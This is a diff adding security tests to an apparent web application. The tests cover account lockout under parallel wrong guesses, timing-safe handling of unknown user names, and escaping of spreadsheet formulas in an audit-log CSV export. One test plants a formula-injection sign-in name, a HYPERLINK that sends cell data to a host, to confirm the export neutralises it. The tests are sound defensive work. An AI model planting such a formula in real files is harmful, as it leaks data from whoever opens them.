@@ -109,3 +109,60 @@ def test_readme_permission_table_is_the_code() -> None:
         row = next(line for line in readme.splitlines() if f"(`{perm}`) |" in line)
         cells = [c.strip() for c in row.strip("|").split("|")][1:]
         assert cells == ["yes" if r in roles else "-" for r in users.ROLES], perm
+
+
+def test_parallel_wrong_guesses_all_count_and_lock_the_account(ws_settings: Settings) -> None:
+    """12 threads x 3 rounds of wrong passwords at once: every guess counts (one atomic
+    increment each), the account locks, and the right password is then refused."""
+    from concurrent.futures import ThreadPoolExecutor
+
+    r = open_records(replace(ws_settings, lockout_attempts=5, lockout_minutes=10,
+                             bcrypt_rounds=4))
+    users.add_user(r, "anna", PW, "investigator")
+
+    def guess(k: int) -> str:
+        try:
+            users.authenticate(r, "anna", f"wrong guess number {k}")
+        except users.SignInFailed as exc:
+            return str(exc)
+        return "signed in"
+
+    for round_ in range(3):
+        with ThreadPoolExecutor(12) as pool:
+            answers = list(pool.map(guess, range(12 * round_, 12 * round_ + 12)))
+        assert "signed in" not in answers
+    fails = r.audit_log(action="signin.fail", actor="anna")
+    assert len(fails) == 36
+    assert any("locked" in (f["detail"] or "") for f in fails)
+    with pytest.raises(users.SignInFailed, match="try again|locked"):
+        users.authenticate(r, "anna", PW)
+    r.engine.dispose()
+
+
+def test_unknown_names_cost_as_much_as_known_ones(records) -> None:
+    """The hash checked for an unknown name has the configured cost (no timing oracle)."""
+    rounds = records.settings.bcrypt_rounds
+    assert users.dummy_hash(rounds).startswith(f"$2b${rounds:02d}$".encode())
+    with pytest.raises(users.SignInFailed, match="wrong user name or password"):
+        users.authenticate(records, "nobody-here", PW)
+
+
+def test_audit_export_cannot_carry_a_spreadsheet_formula(records) -> None:
+    """A failed sign-in name like ``=HYPERLINK(...)`` lands in the audit log; the CSV the
+    Admin page exports holds it as text, not as a formula."""
+    import csv
+    import io
+
+    import pandas as pd
+
+    from findme.ui.export import safe_csv
+
+    evil = '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"click")'
+    with pytest.raises(users.SignInFailed):
+        users.authenticate(records, evil, PW)
+    rows = list(csv.DictReader(io.StringIO(safe_csv(pd.DataFrame(records.audit_log())))))
+    actors = [r["actor"] for r in rows]
+    assert "'" + evil[:100] in actors and evil[:100] not in actors
+    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
+    frame = pd.DataFrame({"photo": ["+cmd.jpg", "ok.jpg"], "score": [-0.5, 0.9]})
+    assert safe_csv(frame).splitlines()[1:] == ["'+cmd.jpg,-0.5", "ok.jpg,0.9"]  # numbers stay
